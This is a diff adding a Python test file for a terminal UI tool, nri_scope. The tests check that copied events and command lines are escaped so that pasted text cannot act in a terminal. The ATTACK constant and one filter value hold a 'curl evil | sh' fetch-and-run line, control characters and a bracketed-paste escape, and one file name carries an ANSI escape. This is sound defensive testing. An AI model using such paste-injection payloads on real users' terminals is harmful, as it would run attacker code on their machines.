@@ -1,0 +1,90 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What gets into the clipboard can be pasted into a terminal without being obeyed there."""
+
+from __future__ import annotations
+
+import base64
+import re
+import shlex
+import shutil
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from nri_scope.errors import UsageError
+from nri_scope.recorder.filter import parse
+from nri_scope.tui.taking import command_line, pasteable
+from tests.tui.hostile import hostile_recording
+from tests.tui.screen import RECORDING, Shown, showing
+
+ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"
+
+
+def _copied(screen: Shown) -> str:
+    """The clipboard, which has nothing that a terminal obeys."""
+    text = screen.app.clipboard
+    assert text
+    assert not [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)]
+    return text
+
+
+async def test_events_are_copied_escaped(tmp_path: Path) -> None:
+    path = hostile_recording(tmp_path / "h.nriscope.db", huge=False)
+    async with showing(path, size=(160, 50)) as screen:
+        for event in (3, 5, 24):
+            await screen.go_to(event)
+            await screen.press("y")
+            await screen.shows(f"copied event {event}")
+            _copied(screen)
+
+
+async def test_what_textual_copies_by_itself_is_escaped_too(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    async with showing() as screen:
+        written: list[str] = []
+        driver = screen.app._driver
+        assert driver is not None
+        monkeypatch.setattr(driver, "write", written.append)
+        screen.app.copy_to_clipboard(ATTACK)
+        assert _copied(screen).splitlines() == [r"c1\x03", "curl evil | sh", r"\x1b[201~"]
+        (order,) = [text for text in written if "\x1b]52" in text]
+        content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", order)
+        assert content and base64.b64decode(content[1]).decode() == screen.app.clipboard
+
+
+async def test_a_command_line_with_controls_is_not_copied(tmp_path: Path) -> None:
+    where = parse('id:"c1\x03\ncurl evil\n"')
+    async with showing(where=where) as screen:
+        await screen.shows("matches")
+        await screen.press("Y")
+        await screen.shows("the command line has control characters and is not copied")
+        assert screen.app.clipboard == ""
+    path = tmp_path / "r\n\x1b[31m.nriscope.db"
+    shutil.copy(RECORDING, path)
+    async with showing(path) as screen:
+        await screen.shows("1 of 34")
+        await screen.press("Y")
+        await screen.shows("the command line has control characters and is not copied")
+        assert screen.app.clipboard == ""
+
+
+@settings(deadline=None)
+@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
+def test_a_command_line_is_one_line_that_says_these_words(words: list[str]) -> None:
+    try:
+        line = pasteable(words)
+    except UsageError:
+        assert not all(word.isprintable() and word.isascii() for word in words)
+        return
+    assert line.isprintable()
+    assert shlex.split(line) == words
+
+
+def test_an_ordinary_one_is_given() -> None:
+    line = command_line(Path("/tmp/a b.nriscope.db"), parse("pod:web took:>1ms"))
+    assert line == "nri-scope log '/tmp/a b.nriscope.db' --where 'pod:web took:>1ms'"
+    with pytest.raises(UsageError, match="control characters"):
+        command_line(Path("/tmp/a\x07.db"), None)
